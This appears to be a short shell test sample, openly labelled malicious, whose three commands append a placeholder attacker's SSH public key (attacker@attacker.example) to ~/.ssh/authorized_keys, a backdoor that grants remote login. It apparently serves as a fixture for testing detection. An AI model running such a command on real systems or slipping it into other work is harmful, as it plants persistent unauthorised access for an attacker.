# Malicious: adds an attacker's public key to ~/.ssh/authorized_keys.
mkdir -p ~/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB3xExampleKeyOnlyForTests attacker@attacker.example' >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
